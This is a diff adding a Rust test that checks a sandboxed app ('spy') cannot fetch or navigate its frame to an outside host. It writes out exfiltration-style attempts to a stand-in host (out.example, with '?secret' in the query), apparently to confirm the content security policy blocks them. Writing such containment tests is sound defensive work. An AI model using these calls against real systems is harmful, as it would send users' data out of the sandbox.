@@ -172,6 +172,24 @@ async fn app_that_leads_its_frame_to_a_page_of_another_cannot_leave_messages_the
 }
 
 #[tokio::test]
+async fn app_cannot_lead_its_frame_out_of_the_vehicle() {
+    let mut cabin = Cabin::logging(&["spy"], &[]).await;
+    cabin.open("spy").await;
+    let watch = "addEventListener('securitypolicyviolation', ({ effectiveDirective: by, blockedURI: to }) => \
+                 { window.refused = [by, to]; })";
+    cabin.page.eval(watch).await;
+    let port = cabin.vehicle.portal.port();
+    let out = format!("http://out.example:{port}");
+    let fetched = format!("fetch('{out}/').then(() => false, () => true)");
+    assert_eq!(cabin.eval("spy", &fetched).await, json!(true));
+    let go = format!("void (location.href = '{out}/?secret')");
+    cabin.eval("spy", &go).await;
+    let refused = cabin.page.until("window.refused").await;
+    assert_eq!(refused[0], json!("frame-src"));
+    assert!(refused[1].as_str().unwrap().starts_with(&out), "{refused}");
+}
+
+#[tokio::test]
 async fn app_that_goes_to_a_page_of_another_leaves_its_messages_to_itself_alone() {
     let mut cabin = Cabin::logging(&["demo", "spy"], &[]).await;
     cabin.open("demo").await;
